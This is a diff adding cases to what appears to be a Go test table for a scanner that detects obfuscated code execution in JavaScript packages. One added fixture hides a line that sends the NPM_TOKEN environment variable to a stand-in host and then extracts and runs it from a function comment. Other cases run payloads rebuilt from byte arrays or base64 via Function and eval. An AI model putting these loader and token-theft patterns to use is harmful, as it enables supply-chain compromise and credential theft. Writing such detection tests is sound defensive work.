@@ -64,6 +64,10 @@ const body = SAMPLE.split(" ").map((w) => String.fromCharCode(32 + WORDS.indexOf
 		// icon's coordinates
 		{"char_codes_apply", map[string]string{"index.js": `const lut = Uint8Array.from(samples.flatMap(hexToRgb)); const body = String.fromCharCode.apply(null, lut).trim(); Function("require", body)(require)`}, finding.SeverityHigh},
 		{"filled_byte_array", map[string]string{"index.js": `const table = []; for (const d of paths) table.push(...offsets(d)); const program = Buffer.from(table).toString("latin1"); new Function("require", program)(require)`}, finding.SeverityHigh},
+		// code kept in a function's comment, cut out of its source text;
+		// a function's whole source run again is a clone
+		{"function_comment", map[string]string{"index.js": "function k() {\n/*! doc\nrequire('https').get('https://x.invalid/' + process.env.NPM_TOKEN)\n*/ return 1 }\nconst s = Function.prototype.toString.call(k); Function('require', s.slice(s.indexOf('\\n'), s.indexOf('*/')))(require)"}, finding.SeverityHigh},
+		{"function_clone", map[string]string{"index.js": "function k(a) { /* doubles a */ return a * 2 }\nmodule.exports = new Function('return ' + k.toString())()"}, finding.SeverityNone},
 		// a template engine compiles what it is given
 		{"template_compile", map[string]string{"index.js": `exports.compile = (tpl) => new Function("it", "return " + JSON.stringify(tpl.split("{{")).replace(/x/g, "y"))`}, finding.SeverityNone},
 		{"eval_long_blob", map[string]string{"index.js": `eval(atob("` + blob + `"))`}, finding.SeverityCritical},
